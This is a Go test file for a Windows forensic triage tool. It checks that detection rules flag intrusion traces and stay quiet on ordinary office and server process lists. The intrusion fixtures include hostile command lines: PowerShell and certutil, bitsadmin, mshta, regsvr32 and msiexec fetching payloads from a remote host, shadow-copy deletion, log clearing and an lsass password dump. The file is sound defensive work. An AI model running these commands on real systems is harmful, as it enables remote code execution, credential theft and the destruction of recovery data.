package triage

import (
	"bytes"
	"encoding/json"
	"fmt"
	"slices"
	"strings"
	"testing"
	"time"

	"firebreak/forensics"
	"firebreak/forensics/parse"
	"firebreak/record"
	"firebreak/timeline"
)

// ordinary is the processes of a machine in an office: number, parent's number,
// parent, user, executable, arguments. A name without a folder runs no file.
const ordinary = `
0|0|||[System Process]|
4|0||SYSTEM|System|
136|4|System|SYSTEM|Registry|
564|4|System|SYSTEM|C:\Windows\System32\smss.exe|-
752|744||SYSTEM|C:\Windows\System32\csrss.exe|%SystemRoot%\system32\csrss.exe ObjectDirectory=\Windows SharedSection=1024,20480,768 Windows=On
856|744||SYSTEM|C:\Windows\System32\wininit.exe|wininit.exe
928|856|wininit.exe|SYSTEM|C:\Windows\System32\services.exe|C:\Windows\system32\services.exe
948|856|wininit.exe|SYSTEM|C:\Windows\System32\LsaIso.exe|\??\C:\Windows\system32\lsaiso.exe
960|856|wininit.exe|SYSTEM|C:\Windows\System32\lsass.exe|C:\Windows\system32\lsass.exe
972|856|wininit.exe|UMFD-0|C:\Windows\System32\fontdrvhost.exe|"fontdrvhost.exe"
988|876||SYSTEM|C:\Windows\System32\winlogon.exe|winlogon.exe
1004|988|winlogon.exe|DWM-1|C:\Windows\System32\dwm.exe|"dwm.exe"
1080|928|services.exe|SYSTEM|C:\Windows\System32\svchost.exe|C:\Windows\system32\svchost.exe -k DcomLaunch -p
1160|928|services.exe|NETWORK SERVICE|C:\Windows\System32\svchost.exe|C:\Windows\system32\svchost.exe -k RPCSS -p
1368|928|services.exe|SYSTEM|C:\Windows\System32\svchost.exe|C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule
1400|928|services.exe|LOCAL SERVICE|C:\Windows\System32\svchost.exe|C:\Windows\System32\svchost.exe -k LocalServiceNetworkRestricted -p -s EventLog
1500|4|System|SYSTEM|MemCompression|
1620|928|services.exe|SYSTEM|C:\Windows\System32\spoolsv.exe|C:\Windows\System32\spoolsv.exe
1740|928|services.exe|SYSTEM|C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.26010.5-0\MsMpEng.exe|"C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.26010.5-0\MsMpEng.exe"
1744|928|services.exe|LOCAL SERVICE|C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.26010.5-0\NisSrv.exe|-
1800|928|services.exe|SYSTEM|C:\Windows\System32\SearchIndexer.exe|C:\Windows\system32\SearchIndexer.exe /Embedding
1912|1080|svchost.exe|SYSTEM|C:\Windows\System32\wbem\WmiPrvSE.exe|C:\Windows\system32\wbem\wmiprvse.exe -secured -Embedding
1990|928|services.exe|SYSTEM|C:\Program Files\VMware\VMware Tools\vmtoolsd.exe|"C:\Program Files\VMware\VMware Tools\vmtoolsd.exe"
2010|928|services.exe|SYSTEM|C:\Windows\System32\DriverStore\FileRepository\cui_dch.inf_amd64_1\igfxCUIService.exe|-
2020|928|services.exe|SYSTEM|C:\Program Files (x86)\Microsoft\EdgeUpdate\MicrosoftEdgeUpdate.exe|"C:\Program Files (x86)\Microsoft\EdgeUpdate\MicrosoftEdgeUpdate.exe" /svc
2100|1368|svchost.exe|ann|C:\Windows\System32\sihost.exe|sihost.exe
2110|1368|svchost.exe|ann|C:\Windows\System32\taskhostw.exe|taskhostw.exe {222A245B-E637-4AE9-A93F-A59CA119A75E}
2200|2180||ann|C:\Windows\explorer.exe|C:\Windows\Explorer.EXE
2290|1080|svchost.exe|ann|C:\Windows\System32\RuntimeBroker.exe|C:\Windows\System32\RuntimeBroker.exe -Embedding
2300|1080|svchost.exe|ann|C:\Windows\System32\dllhost.exe|C:\Windows\system32\DllHost.exe /Processid:{AB8902B4-09CA-4BB6-B78D-A8F59079A8D5}
2310|1080|svchost.exe|ann|C:\Windows\SystemApps\Microsoft.Windows.StartMenuExperienceHost_cw5n1h2txyewy\StartMenuExperienceHost.exe|-
2400|2200|explorer.exe|ann|C:\Windows\System32\SecurityHealthSystray.exe|"C:\Windows\System32\SecurityHealthSystray.exe"
2410|2200|explorer.exe|ann|C:\Users\ann\AppData\Local\Microsoft\OneDrive\OneDrive.exe|"C:\Users\ann\AppData\Local\Microsoft\OneDrive\OneDrive.exe" /background
2420|2200|explorer.exe|ann|C:\Users\ann\AppData\Local\Microsoft\Teams\current\Teams.exe|"C:\Users\ann\AppData\Local\Microsoft\Teams\current\Teams.exe"
2430|1080|svchost.exe|ann|C:\Program Files\WindowsApps\MSTeams_26002.1_x64__8wekyb3d8bbwe\ms-teams.exe|"ms-teams.exe"
2500|2200|explorer.exe|ann|C:\Program Files\Google\Chrome\Application\chrome.exe|"C:\Program Files\Google\Chrome\Application\chrome.exe"
2510|2500|chrome.exe|ann|C:\Program Files\Google\Chrome\Application\chrome.exe|"C:\Program Files\Google\Chrome\Application\chrome.exe" --type=renderer --lang=en-US /prefetch:1
2520|2500|chrome.exe|ann|C:\Windows\System32\cmd.exe|C:\Windows\system32\cmd.exe /d /s /c ""C:\Program Files\KeePassXC\host.bat" chrome-extension://oboonakemofpalcgghocfoadofidjkkk/ --parent-window=0" < \\.\pipe\chrome.nativeMessaging.in.5d9d > \\.\pipe\chrome.nativeMessaging.out.5d9d
2600|2200|explorer.exe|ann|C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE|"C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE"
2610|2200|explorer.exe|ann|C:\Program Files\Microsoft Office\root\Office16\EXCEL.EXE|"C:\Program Files\Microsoft Office\root\Office16\EXCEL.EXE" "C:\Users\ann\Documents\plan.xlsx"
2620|2610|EXCEL.EXE|ann|C:\Windows\splwow64.exe|C:\Windows\splwow64.exe 12288
2700|2200|explorer.exe|ann|C:\Program Files\WindowsApps\Microsoft.WindowsTerminal_1.24_x64__8wekyb3d8bbwe\WindowsTerminal.exe|-
2710|2700|WindowsTerminal.exe|ann|C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe|powershell.exe
2720|2710|powershell.exe|ann|C:\Windows\System32\conhost.exe|\??\C:\Windows\system32\conhost.exe 0x4
2730|2200|explorer.exe|ann|C:\Windows\System32\rundll32.exe|"C:\Windows\System32\rundll32.exe" shell32.dll,Control_RunDLL mmsys.cpl
2740|2200|explorer.exe|ann|C:\Program Files\WindowsApps\Microsoft.WindowsNotepad_11.2601_x64__8wekyb3d8bbwe\Notepad\Notepad.exe|"C:\Program Files\WindowsApps\Microsoft.WindowsNotepad_11.2601_x64__8wekyb3d8bbwe\Notepad\Notepad.exe" "C:\Users\ann\Documents\todo.txt"
2750|2200|explorer.exe|ann|C:\Users\ann\AppData\Roaming\Spotify\Spotify.exe|"C:\Users\ann\AppData\Roaming\Spotify\Spotify.exe" --autostart
2760|2200|explorer.exe|ann|C:\Users\ann\AppData\Local\Programs\Microsoft VS Code\Code.exe|"C:\Users\ann\AppData\Local\Programs\Microsoft VS Code\Code.exe"
2770|2760|Code.exe|ann|C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe|C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe -noexit -command "try { . \"c:\Users\ann\AppData\Local\Programs\Microsoft VS Code\resources\app\out\vs\workbench\contrib\terminal\common\scripts\shellIntegration.ps1\" } catch {}"
2800|1368|svchost.exe|SYSTEM|C:\Windows\SystemTemp\Google7788_1\bin\updater.exe|-
2900|2710|powershell.exe|ann|C:\Users\ann\Downloads\firebreak.exe|firebreak.exe collect
`

// ordinaryServer is the processes of a domain controller that is also a web server
// and a database, with an administrator at work by remote desktop.
const ordinaryServer = `
0|0|||[System Process]|
4|0||SYSTEM|System|
372|4|System|SYSTEM|C:\Windows\System32\smss.exe|\SystemRoot\System32\smss.exe
480|472||SYSTEM|C:\Windows\System32\csrss.exe|-
560|472||SYSTEM|C:\Windows\System32\wininit.exe|wininit.exe
688|560|wininit.exe|SYSTEM|C:\Windows\System32\services.exe|C:\Windows\system32\services.exe
700|560|wininit.exe|SYSTEM|C:\Windows\System32\lsass.exe|C:\Windows\system32\lsass.exe
1100|688|services.exe|SYSTEM|C:\Windows\System32\svchost.exe|C:\Windows\system32\svchost.exe -k DcomLaunch -p
1110|688|services.exe||svchost.exe|
1200|688|services.exe|SYSTEM|C:\Windows\System32\dns.exe|C:\Windows\system32\dns.exe
1210|688|services.exe|SYSTEM|C:\Windows\System32\dfsrs.exe|C:\Windows\system32\DFSRs.exe
1220|688|services.exe|SYSTEM|C:\Windows\ADWS\Microsoft.ActiveDirectory.WebServices.exe|C:\Windows\ADWS\Microsoft.ActiveDirectory.WebServices.exe
1230|688|services.exe|NETWORK SERVICE|C:\Windows\System32\msdtc.exe|C:\Windows\System32\msdtc.exe
1300|688|services.exe|SYSTEM|C:\Windows\System32\svchost.exe|C:\Windows\system32\svchost.exe -k iissvcs
1310|1300|svchost.exe|DefaultAppPool|C:\Windows\System32\inetsrv\w3wp.exe|c:\windows\system32\inetsrv\w3wp.exe -ap "DefaultAppPool" -v "v4.0"
1320|1310|w3wp.exe|DefaultAppPool|C:\Windows\Microsoft.NET\Framework64\v4.0.30319\csc.exe|"C:\Windows\Microsoft.NET\Framework64\v4.0.30319\csc.exe" /noconfig /fullpaths @"C:\Windows\Microsoft.NET\Framework64\v4.0.30319\Temporary ASP.NET Files\root\x.cmdline"
1400|688|services.exe|MSSQLSERVER|C:\Program Files\Microsoft SQL Server\MSSQL16.MSSQLSERVER\MSSQL\Binn\sqlservr.exe|"C:\Program Files\Microsoft SQL Server\MSSQL16.MSSQLSERVER\MSSQL\Binn\sqlservr.exe" -sMSSQLSERVER
1500|688|services.exe|SYSTEM|C:\Program Files\OpenSSH\sshd.exe|"C:\Program Files\OpenSSH\sshd.exe"
1510|1500|sshd.exe|adm|C:\Windows\System32\cmd.exe|c:\windows\system32\cmd.exe
1600|4|System|SYSTEM|C:\Windows\System32\smss.exe|-
1610|1600|smss.exe|SYSTEM|C:\Windows\System32\csrss.exe|-
1620|1600|smss.exe|SYSTEM|C:\Windows\System32\winlogon.exe|winlogon.exe
1630|1620|winlogon.exe|DWM-2|C:\Windows\System32\dwm.exe|"dwm.exe"
1640|1620|winlogon.exe|SYSTEM|C:\Windows\System32\LogonUI.exe|"LogonUI.exe" /flags:0x2 /state0:0xa3b92855
1650|1620|winlogon.exe|adm|C:\Windows\System32\userinit.exe|C:\Windows\system32\userinit.exe
1660|1650|userinit.exe|adm|C:\Windows\explorer.exe|C:\Windows\Explorer.EXE
1670|1100|svchost.exe|adm|C:\Windows\System32\rdpclip.exe|rdpclip
1680|1660|explorer.exe|adm|C:\Windows\System32\mmc.exe|"C:\Windows\system32\mmc.exe" "C:\Windows\system32\dsa.msc"
1690|1660|explorer.exe|adm|C:\Windows\System32\Taskmgr.exe|"C:\Windows\system32\taskmgr.exe" /4
1700|1660|explorer.exe|adm|C:\Windows\System32\gpupdate.exe|gpupdate
1710|1660|explorer.exe|adm|C:\Windows\SysWOW64\WindowsPowerShell\v1.0\powershell.exe|"powershell.exe" -NoProfile -File C:\Scripts\backup.ps1
1720|1100|svchost.exe|SYSTEM|C:\Windows\WinSxS\amd64_microsoft-windows-servicingstack_31bf3856ad364e35_10.0.20348.1_none_a\TiWorker.exe|-
1730|688|services.exe|SYSTEM|C:\Windows\servicing\TrustedInstaller.exe|C:\Windows\servicing\TrustedInstaller.exe
1740|688|services.exe|SYSTEM|C:\Windows\Temp\8B1A0D4C-0F3C-4D3E-9A55-1E1B8A9C0D11\dismhost.exe|-
`

const ordinarySockets = `
tcp listen 0.0.0.0:135 - 1160 svchost.exe
tcp listen 0.0.0.0:445 - 4 System
tcp listen 0.0.0.0:49664 - 960 lsass.exe
tcp listen 0.0.0.0:49665 - 856 wininit.exe
tcp listen 0.0.0.0:49668 - 1620 spoolsv.exe
tcp listen 0.0.0.0:57621 - 2750 Spotify.exe
tcp established 10.0.0.5:50001 52.123.128.14:443 2420 Teams.exe
tcp established 10.0.0.5:50002 142.250.74.46:443 2500 chrome.exe
tcp established 10.0.0.5:50003 20.42.73.24:443 2740 Notepad.exe
tcp established 10.0.0.5:50004 10.0.0.9:5985 2710 powershell.exe
tcp time-wait 10.0.0.5:50005 203.0.113.80:443 0
tcp6 listen [::]:445 - 4 System
udp unconn 0.0.0.0:5353 - 2500 chrome.exe
`

const ordinaryDrivers = `
C:\Windows\system32\ntoskrnl.exe
C:\Windows\system32\hal.dll
C:\Windows\System32\drivers\CLFS.SYS
C:\Windows\System32\drivers\tcpip.sys
C:\Windows\System32\win32kfull.sys
C:\Windows\System32\Drivers\dump_storahci.sys
C:\Windows\System32\DriverStore\FileRepository\nv_dispi.inf_amd64_1\nvlddmkm.sys
C:\ProgramData\Microsoft\Windows Defender\Definition Updates\{7A1D3B7B-6A2F-4C0D-9E55-1E1B8A9C0D11}\MpKslDrv.sys
C:\Program Files\Oracle\VirtualBox\drivers\vboxsup\VBoxSup.sys
`

// windowsTimeline is what the snapshots give.
func windowsTimeline(t *testing.T, processes, sockets, drivers string) []timeline.Event {
	t.Helper()
	var lines [3][]any
	at := night.Add(-10 * time.Hour)
	for row := range strings.Lines(strings.TrimSpace(processes)) {
		f := strings.SplitN(strings.TrimSpace(row), "|", 6)
		p := forensics.WindowsProcess{Parent: f[2], User: f[3], Comm: f[4][strings.LastIndexByte(f[4], '\\')+1:], Command: strings.TrimPrefix(f[5], "-"), Integrity: "medium"}
		if _, err := fmt.Sscan(f[0]+" "+f[1], &p.PID, &p.PPID); err != nil {
			t.Fatal(row, err)
		}
		if at = at.Add(time.Second); p.PID != 0 {
			p.Started = at
		}
		if strings.Contains(f[4], `\`) {
			p.Exe, p.ExeSHA256 = f[4], strings.Repeat("0", 64)
		}
		p.Exe, p.Missing = strings.TrimSuffix(p.Exe, " (gone)"), strings.HasSuffix(p.Exe, " (gone)")
		p.Comm = strings.TrimSuffix(p.Comm, " (gone)")
		p.Self = p.Comm == "firebreak.exe"
		lines[0] = append(lines[0], p)
	}
	for row := range strings.Lines(strings.TrimSpace(sockets)) {
		f := append(strings.Fields(row), "")
		s := forensics.WindowsSocket{Proto: f[0], State: f[1], Local: f[2], Remote: strings.TrimPrefix(f[3], "-"), Process: f[5], Opened: at}
		if _, err := fmt.Sscan(f[4], &s.PID); err != nil {
			t.Fatal(row, err)
		}
		lines[1] = append(lines[1], s)
	}
	for row := range strings.Lines(strings.TrimSpace(drivers)) {
		file := strings.TrimSpace(row)
		lines[2] = append(lines[2], forensics.WindowsDriver{Name: file[strings.LastIndexByte(file, '\\')+1:], Path: file, Loaded: len(lines[2])})
	}
	var out []timeline.Event
	for i, format := range []string{forensics.FormatWindowsProcesses, forensics.FormatWindowsSockets, forensics.FormatWindowsDrivers} {
		var b bytes.Buffer
		for _, line := range lines[i] {
			text, err := json.Marshal(line)
			if err != nil {
				t.Fatal(err)
			}
			b.Write(append(text, '\n'))
		}
		src := parse.Source{Exhibit: record.Exhibit{ID: "e1", SHA256: fmt.Sprint(i), Source: format, Host: "pc-7"}, Parser: format, Collected: night}
		ing, err := parse.File(t.Context(), &b, src, func(batch []timeline.Event) error {
			for _, e := range batch {
				out = append(out, e.Clone())
			}
			return nil
		})
		if err != nil || ing.Rejected > 0 {
			t.Fatal(format, ing, err)
		}
	}
	return out
}

// told is what the rules say of events.
func told(t *testing.T, events []timeline.Event) []Finding {
	t.Helper()
	set, err := BuiltIn()
	if err != nil {
		t.Fatal(err)
	}
	got, err := set.Run(t.Context(), newMemory(events), Options{})
	if err != nil {
		t.Fatal(err)
	}
	return got.Findings
}

// Of ordinary machines nothing is said that wants an explanation.
func TestOrdinaryWindows(t *testing.T) {
	server := "tcp listen 0.0.0.0:53 - 1200 dns.exe\ntcp listen 0.0.0.0:22 - 1500 sshd.exe\ntcp established 10.0.0.2:1433 203.0.113.7:50000 1400 sqlservr.exe"
	for _, m := range [][2]string{{ordinary, ordinarySockets}, {ordinaryServer, server}} {
		events := windowsTimeline(t, m[0], m[1], ordinaryDrivers)
		for _, r := range ordinaryRegistry() {
			events = append(events, r.events(t)...)
		}
		for _, f := range told(t, events) {
			if f.Severity.Rank() > Low.Rank() {
				t.Errorf("%s: %s", f.Rule, f.Reason)
			}
		}
	}
}

// ordinaryRegistry is what such a machine starts by itself.
func ordinaryRegistry() []sample {
	at := func(artifact, key, value, command string) sample {
		m := map[string]any{"source": "registry", "kind": "modified", "attr.action": "startup", "attr.artifact": artifact, "attr.key": key, "attr.command": command, "attr.data": command, "attr.service": key}
		if value != "" {
			m["attr.value"] = value
		}
		return sample{m}
	}
	run, once := `HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Run`, `HKU\S-1-5-21-1\SOFTWARE\Microsoft\Windows\CurrentVersion\RunOnce`
	logon := `HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon`
	return []sample{
		at("autorun", run, "SecurityHealth", `%windir%\system32\SecurityHealthSystray.exe`),
		at("autorun", run, "RtkAudUService", `"C:\Windows\System32\DriverStore\FileRepository\realtekservice.inf_amd64_1\RtkAudUService64.exe" -background`),
		at("autorun", run, "LogiOptions", `C:\Windows\system32\rundll32.exe C:\Windows\System32\LogiLDA.dll,LogiFetch`),
		at("autorun", run, "Teams", `C:\Users\ann\AppData\Local\Microsoft\Teams\Update.exe --processStart "Teams.exe" --process-start-args "--system-initiated"`),
		at("autorun", run, "Discord", `"C:\Users\ann\AppData\Local\Discord\Update.exe" --processStart Discord.exe`),
		at("autorun", run, "Spotify", `C:\Users\ann\AppData\Roaming\Spotify\Spotify.exe --autostart --minimized`),
		at("autorun", run, "MicrosoftEdgeAutoLaunch_1", `"C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe" --no-startup-window --win-session-start`),
		at("autorun", once, "Uninstall 26.001", `C:\Windows\system32\cmd.exe /q /c rmdir /s /q "C:\Users\ann\AppData\Local\Microsoft\OneDrive\26.001"`),
		at("autorun", once, "wextract_cleanup0", `rundll32.exe C:\Windows\system32\advpack.dll,DelNodeRunDLL32 "C:\Users\ann\AppData\Local\Temp\IXP000.TMP\"`),
		at("active setup", `HKLM\SOFTWARE\Microsoft\Active Setup\Installed Components\{89820200-ECBD-11cf-8B85-00AA005B4340}`, "StubPath", `regsvr32.exe /s /n /i:U shell32.dll`),
		at("active setup", `HKLM\SOFTWARE\Microsoft\Active Setup\Installed Components\{89820200-ECBD-11cf-8B85-00AA005B4383}`, "StubPath", `C:\Windows\System32\ie4uinit.exe -UserConfig`),
		at("active setup", `HKLM\SOFTWARE\Microsoft\Active Setup\Installed Components\{89B4C1CD-B018-4511-B0A1-5476DBF70820}`, "StubPath", `C:\Windows\System32\Rundll32.exe C:\Windows\System32\mscories.dll,Install`),
		at("print monitor", `HKLM\SYSTEM\ControlSet001\Control\Print\Monitors\Local Port`, "Driver", `localspl.dll`),
		at("winlogon", logon, "Shell", "explorer.exe"),
		at("winlogon", logon, "Userinit", `C:\Windows\system32\userinit.exe,`),
		at("winlogon", logon, "VmApplet", `SystemPropertiesPerformance.exe /pagefile`),
		at("service", "Schedule", "", `%systemroot%\system32\svchost.exe -k netsvcs -p`),
		at("service", "TrustedInstaller", "", `%SystemRoot%\servicing\TrustedInstaller.exe`),
		at("service", "MpKslDrv", "", `\??\C:\ProgramData\Microsoft\Windows Defender\Definition Updates\{A}\MpKslDrv.sys`),
		at("service", "COMSysApp", "", `%SystemRoot%\system32\dllhost.exe /Processid:{02D4B3F1-FD88-11D1-960D-00805FC79235}`),
		at("service dll", "Schedule", "", `%systemroot%\system32\schedsvc.dll`),
	}
}

// What an intruder leaves running is found, each by the rule that is for it.
func TestWindowsThatWasBrokenInto(t *testing.T) {
	for _, c := range []struct{ rule, processes, sockets, drivers string }{
		{"win-process-odd-name", `7|2200|explorer.exe|ann|C:\Users\ann\AppData\Roaming\svchost.exe|svchost.exe -k netsvcs`, "", ""},
		{"win-process-odd-name", `7|2200|explorer.exe|ann|C:\Windows\System32\scvhost.exe|scvhost.exe`, "", ""},
		{"win-process-odd-parent", `7|6|WINWORD.EXE|ann|C:\Windows\System32\svchost.exe|svchost.exe -k netsvcs`, "", ""},
		{"win-process-odd-parent", `7|6|cmd.exe|SYSTEM|C:\Windows\System32\lsass.exe|lsass.exe`, "", ""},
		{"win-process-no-arguments", `7|6|x.exe|ann|C:\Windows\System32\rundll32.exe|C:\Windows\System32\rundll32.exe`, "", ""},
		{"win-process-no-arguments", `7|928|services.exe|SYSTEM|C:\Windows\System32\svchost.exe|C:\Windows\System32\svchost.exe`, "", ""},
		{"win-process-in-public", `7|6|cmd.exe|ann|C:\Users\Public\Music\a.exe|a.exe`, "", ""},
		{"win-process-in-public", `7|6|cmd.exe|SYSTEM|C:\$Recycle.Bin\a.exe|a.exe`, "", ""},
		{"win-process-in-temp", `7|6|cmd.exe|ann|C:\Users\ann\AppData\Local\Temp\Rar$EXa1\invoice.exe|invoice.exe`, "", ""},
		{"win-process-gone", `7|6|cmd.exe|ann|C:\Users\ann\x.exe (gone)|x.exe`, "", ""},
		{"win-server-starts-shell", `7|6|w3wp.exe|DefaultAppPool|C:\Windows\System32\cmd.exe|cmd.exe /c whoami`, "", ""},
		{"win-server-starts-shell", `7|6|sqlservr.exe||powershell.exe|`, "", ""},
		{"win-office-starts-shell", `7|6|WINWORD.EXE|ann|C:\Windows\System32\mshta.exe|mshta.exe C:\x.hta`, "", ""},
		{"win-browser-starts-shell", `7|6|msedge.exe|ann|C:\Windows\System32\wscript.exe|wscript.exe C:\Users\ann\Downloads\a.js`, "", ""},
		{"win-wmi-starts-shell", `7|6|WmiPrvSE.exe|SYSTEM|C:\Windows\System32\cmd.exe|cmd.exe /c x`, "", ""},
		{"win-wmi-starts-shell", `7|6|cmd.exe|ann|C:\Windows\System32\wbem\WMIC.exe|wmic  /node:dc1 process call create "cmd /c x"`, "", ""},
		{"win-powershell-encoded", `7|6|cmd.exe|ann|C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe|powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBi`, "", ""},
		{"win-powershell-hidden-code", `7|6|cmd.exe|ann|C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe|powershell -w hidden -c "iwr http://203.0.113.9/a -outfile a.exe"`, "", ""},
		{"win-powershell-hidden-code", `7|6|cmd.exe|ann|C:\Program Files\PowerShell\7\pwsh.exe|pwsh -c "irm 203.0.113.9/a | iex"`, "", ""},
		{"win-code-by-helper", `7|6|cmd.exe|ann|C:\Windows\System32\certutil.exe|certutil -urlcache -split -f http://203.0.113.9/a a.exe`, "", ""},
		{"win-code-by-helper", `7|6|cmd.exe|ann|C:\Windows\System32\bitsadmin.exe|bitsadmin /transfer j /download http://203.0.113.9/a C:\a.exe`, "", ""},
		{"win-code-by-helper", `7|6|cmd.exe|ann|C:\Windows\System32\mshta.exe|mshta http://203.0.113.9/a.hta`, "", ""},
		{"win-code-by-helper", `7|6|cmd.exe|ann|C:\Windows\System32\regsvr32.exe|regsvr32 /s /n /u /i:http://203.0.113.9/a.sct scrobj.dll`, "", ""},
		{"win-code-by-helper", `7|6|cmd.exe|ann|C:\Windows\System32\rundll32.exe|rundll32.exe javascript:"\..\mshtml,RunHTMLApplication "`, "", ""},
		{"win-code-by-helper", `7|6|cmd.exe|ann|C:\Windows\System32\msiexec.exe|msiexec /q /i http://203.0.113.9/a.msi`, "", ""},
		{"win-no-way-back", `7|6|cmd.exe|ann|C:\Windows\System32\vssadmin.exe|vssadmin delete shadows /all /quiet`, "", ""},
		{"win-no-way-back", `7|6|cmd.exe|ann|C:\Windows\System32\wevtutil.exe|wevtutil cl Security`, "", ""},
		{"win-dumps-passwords", `7|6|cmd.exe|ann|C:\Windows\System32\rundll32.exe|rundll32 C:\windows\system32\comsvcs.dll, MiniDump 960 C:\a.dmp full`, "", ""},
		{"win-remote-exec-service", `7|928|services.exe|SYSTEM|C:\Windows\PSEXESVC.exe|C:\Windows\PSEXESVC.exe`, "", ""},
		{"win-elevated-by-helper", `7|6|fodhelper.exe|ann|C:\Windows\System32\cmd.exe|cmd.exe`, "", ""},
		{"win-shell-by-tool-of-attackers", `7|6|cmd.exe|ann|C:\t\mimikatz.exe|mimikatz.exe`, "", ""},
		{"win-odd-program-connects", "", `tcp established 10.0.0.5:50123 203.0.113.9:443 7 notepad.exe`, ""},
		{"win-helper-connects", "", `tcp6 established [2001:db8::5]:50123 [2606:4700::9]:443 7 rundll32.exe`, ""},
		{"win-odd-program-listens", "", `tcp listen 0.0.0.0:4444 - 7 powershell.exe`, ""},
		{"win-odd-place-connects", `7|6|cmd.exe|ann|C:\ProgramData\a.exe|a.exe`, `tcp established 10.0.0.5:50123 203.0.113.9:443 7 a.exe`, ""},
		{"tool-on-socket", "", `tcp listen 0.0.0.0:4444 - 7 ncat.exe`, ""},
		{"interpreter-listens", "", `tcp listen 0.0.0.0:8000 - 7 python.exe`, ""},
		{"remote-port-of-tools", "", `tcp established 10.0.0.5:50123 203.0.113.9:4444 7 x.exe`, ""},
		{"win-driver-odd-place", "", "", `C:\Users\ann\AppData\Local\Temp\a.sys`},
		{"win-driver-elsewhere", "", "", `D:\a\b.sys`},
		{"win-driver-of-attackers", "", "", `C:\Windows\System32\drivers\DBUtil_2_3.sys`},
	} {
		var rules []string
		for _, f := range told(t, windowsTimeline(t, ordinary+c.processes, ordinarySockets+c.sockets, ordinaryDrivers+c.drivers)) {
			rules = append(rules, f.Rules()...)
			if strings.Contains(f.Reason, "{") {
				t.Errorf("%s: %s", f.Rule, f.Reason)
			}
		}
		if !slices.Contains(rules, c.rule) {
			t.Errorf("%s says nothing of %s%s%s; %v do", c.rule, c.processes, c.sockets, c.drivers, rules)
		}
	}
}
